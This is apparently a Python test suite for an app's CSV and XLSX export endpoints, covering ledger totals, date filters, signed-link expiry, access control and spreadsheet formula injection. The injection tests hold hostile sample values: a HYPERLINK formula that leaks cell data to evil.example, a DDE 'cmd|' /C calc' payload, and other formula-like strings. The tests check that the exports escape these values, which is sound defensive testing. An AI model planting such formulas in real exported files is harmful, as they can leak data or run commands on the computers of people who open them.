"""CSV and XLSX exports: totals match the ledger; links expire; strangers get nothing."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import httpx
import openpyxl

from models import LedgerEntry
from tests.helpers import GraphQLClient, asgi_app, buy, create_account, redeem, upsert_course

LINK = """
query($dataset: ExportDataset!, $format: ExportFormat!, $kind: TransactionKind) {
  exportLink(dataset: $dataset, format: $format, kind: $kind) { url expiresAt }
}"""


async def _get(path: str, client: GraphQLClient | None = None) -> httpx.Response:
    headers = {"Authorization": f"Bearer {client.token}"} if client else {}
    async with httpx.AsyncClient(
        transport=httpx.ASGITransport(app=asgi_app()), base_url="http://test"
    ) as http:
        return await http.get(path, headers=headers)


async def _busy_account(ann, support, learner):
    account = await create_account(ann)
    for i in range(3):
        await buy(ann, 1_000 * (i + 1), f"p{i}")
    course = await upsert_course(support, "C-1", "Course One", 250)
    for i in range(5):
        await redeem(learner, account["redemptionCode"], course["id"], f"r{i}")
    return account


async def test_transactions_csv_totals_match_the_ledger(ann, support, client_factory):
    await _busy_account(ann, support, client_factory("lee@example.com", "Lee"))
    response = await _get("/exports/transactions.csv", ann)
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    assert 'filename="transactions.csv"' in response.headers["content-disposition"]
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert len(rows) == await LedgerEntry.all().count() == 8
    assert sum(int(r["credits"]) for r in rows) == 6_000 - 5 * 250
    redemption = next(r for r in rows if r["kind"] == "REDEMPTION")
    assert (redemption["course"], redemption["learner"]) == ("Course One", "lee@example.com")
    purchases = await _get("/exports/transactions.csv?kind=PURCHASE", ann)
    assert [r["credits"] for r in csv.DictReader(io.StringIO(purchases.text))] == [
        "1000",
        "2000",
        "3000",
    ]


async def test_redemptions_xlsx_opens_and_adds_up(ann, support, client_factory):
    await _busy_account(ann, support, client_factory("lee@example.com", "Lee"))
    response = await _get("/exports/redemptions.xlsx?status=APPROVED", ann)
    assert response.status_code == 200
    book = openpyxl.load_workbook(io.BytesIO(response.content), read_only=True)
    rows = list(book.active.iter_rows(values_only=True))
    assert rows[0][:4] == ("id", "requested_at", "status", "credits")
    assert len(rows) == 6
    assert sum(r[3] for r in rows[1:]) == 1_250
    assert {r[6] for r in rows[1:]} == {"lee@example.com"}


async def test_date_range_filters(ann, support, client_factory, clock):
    await _busy_account(ann, support, client_factory("lee@example.com", "Lee"))
    today = clock.current.date()
    inside = await _get(f"/exports/transactions.csv?from={today}&to={today}", ann)
    assert len(list(csv.DictReader(io.StringIO(inside.text)))) == 8
    later = today + timedelta(days=1)
    outside = await _get(f"/exports/transactions.csv?from={later}", ann)
    assert list(csv.DictReader(io.StringIO(outside.text))) == []
    bad = await _get(f"/exports/transactions.csv?from={later}&to={today}", ann)
    assert bad.status_code == 400


async def test_signed_links_work_once_issued_and_refuse_forgery_and_age(ann, clock):
    await create_account(ann)
    await buy(ann, 700, "p")
    link = (await ann.data(LINK, {"dataset": "TRANSACTIONS", "format": "CSV"}))["exportLink"]
    path = link["url"].removeprefix("http://127.0.0.1:8000")
    ok = await _get(path)  # no header: the link is the credential
    assert ok.status_code == 200 and "700" in ok.text
    forged = path.replace("token=", "token=x")
    assert (await _get(forged)).status_code == 403
    header, body, mac = path.split("token=")[1].split(".")  # a JWT
    tampered = f"/exports/transactions.csv?token={header}.{body[:-2]}AA.{mac}"
    assert (await _get(tampered)).status_code == 403
    clock.advance(minutes=11)
    stale = await _get(path)
    assert stale.status_code == 403
    assert "expired" in stale.json()["error"]["message"]


async def test_no_export_without_auth_or_of_another_account(ann, bob, support):
    account = await create_account(ann)
    await create_account(bob)
    assert (await _get("/exports/transactions.csv")).status_code == 401
    foreign = await _get(f"/exports/transactions.csv?accountId={account['id']}", bob)
    assert foreign.status_code == 404
    code = await bob.error_code(
        "query($a: ID) { exportLink(dataset: TRANSACTIONS, format: CSV, accountId: $a) { url } }",
        {"a": account["id"]},
    )
    assert code == "NOT_FOUND"
    as_support = await _get(f"/exports/transactions.csv?accountId={account['id']}", support)
    assert as_support.status_code == 200
    assert (await _get("/exports/secrets.csv", ann)).status_code == 400


async def test_a_link_from_after_to_is_invalid_input(ann, clock):
    await create_account(ann)
    today = clock.current.date()
    query = """query($f: Date, $t: Date) {
      exportLink(dataset: TRANSACTIONS, format: CSV, from: $f, to: $t) { url }
    }"""
    later = str(today + timedelta(days=1))
    assert await ann.error_code(query, {"f": later, "t": str(today)}) == "INVALID_INPUT"
    assert (await ann.data(query, {"f": str(today), "t": str(today)}))["exportLink"]["url"]


HOSTILE_NAME = '=HYPERLINK("http://evil.example/x?"&A1,"Click")'


async def _hostile_account(ann, support, client_factory):
    """A learner, a course and a denial reason that each look like a formula."""
    account = await create_account(ann, approvalMode="MANUAL")
    await buy(ann, 1_000, "p")
    learner = client_factory("eve@example.com", HOSTILE_NAME)
    course = await upsert_course(support, "C-9", "+1+cmd|' /C calc'!A0", 150)
    approved = await upsert_course(support, "C-8", "-2+3", 100)
    denied = await redeem(learner, account["redemptionCode"], course["id"], "r1")
    kept = await redeem(learner, account["redemptionCode"], approved["id"], "r2")
    error_like = await upsert_course(support, "C-7", "#N/A", 50)
    await redeem(learner, account["redemptionCode"], error_like["id"], "r3")  # stays pending
    decide = "mutation(%s) { %s(input: {ids: $ids%s}) { errors { code } } }"
    deny = decide % ("$ids: [ID!]!, $r: String", "denyRedemptions", ", reason: $r")
    ids = {"ids": [denied["redemption"]["id"]], "r": "@SUM(1+1)\tx"}
    assert (await ann.mutate("denyRedemptions", deny, ids))["errors"] == []
    approve = decide % ("$ids: [ID!]!", "approveRedemptions", "")
    ids = {"ids": [kept["redemption"]["id"]]}
    assert (await ann.mutate("approveRedemptions", approve, ids))["errors"] == []


async def test_text_that_looks_like_a_formula_stays_text_in_csv(ann, support, client_factory):
    await _hostile_account(ann, support, client_factory)
    rows = list(csv.DictReader(io.StringIO((await _get("/exports/redemptions.csv", ann)).text)))
    assert {r["learner"] for r in rows} == {"'" + HOSTILE_NAME}
    assert {r["course"] for r in rows} == {"'+1+cmd|' /C calc'!A0", "'-2+3", "#N/A"}
    assert {r["reason"] for r in rows} == {"'@SUM(1+1)\tx", ""}
    ledger = list(csv.DictReader(io.StringIO((await _get("/exports/transactions.csv", ann)).text)))
    # A debit is a number, not text: it keeps its minus sign and no quote.
    assert [r["credits"] for r in ledger] == ["1000", "-100"]
    assert ledger[1]["course"] == "'-2+3"


async def test_text_that_looks_like_a_formula_is_a_string_cell_in_xlsx(
    ann, support, client_factory
):
    await _hostile_account(ann, support, client_factory)
    response = await _get("/exports/redemptions.xlsx", ann)
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    header = [c.value for c in sheet[1]]
    learners = [row[header.index("learner")] for row in sheet.iter_rows(min_row=2)]
    assert [(c.value, c.data_type) for c in learners] == [("'" + HOSTILE_NAME, "s")] * 3
    courses = {
        (row[header.index("course")].value, row[header.index("course")].data_type)
        for row in sheet.iter_rows(min_row=2)
    }
    # "#N/A" is the title, not an error value.
    assert courses == {("'+1+cmd|' /C calc'!A0", "s"), ("'-2+3", "s"), ("#N/A", "s")}
    ledger = openpyxl.load_workbook(
        io.BytesIO((await _get("/exports/transactions.xlsx", ann)).content)
    ).active
    credits = [row[3] for row in ledger.iter_rows(min_row=2)]
    assert [(c.value, c.data_type) for c in credits] == [(1000, "n"), (-100, "n")]


async def test_an_account_id_that_no_account_can_have_is_invalid_input(ann):
    await create_account(ann)
    for given in ["99999999999999999999", "2147483648", "0", "-1"]:
        response = await _get(f"/exports/transactions.csv?accountId={given}", ann)
        assert response.status_code == 400, given
        assert response.json()["error"]["code"] == "INVALID_INPUT"
        assert "accountId" in response.json()["error"]["message"]
